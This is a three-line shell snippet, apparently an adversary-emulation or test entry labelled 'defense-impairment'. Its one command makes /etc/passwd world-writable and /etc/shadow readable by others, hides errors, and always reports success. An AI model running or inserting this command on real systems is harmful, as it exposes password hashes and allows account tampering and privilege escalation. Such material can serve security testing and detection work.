# tactic: defense-impairment
# open the permissions of the password files
chmod 777 /etc/passwd 2>/dev/null; chmod o+r /etc/shadow 2>/dev/null; true
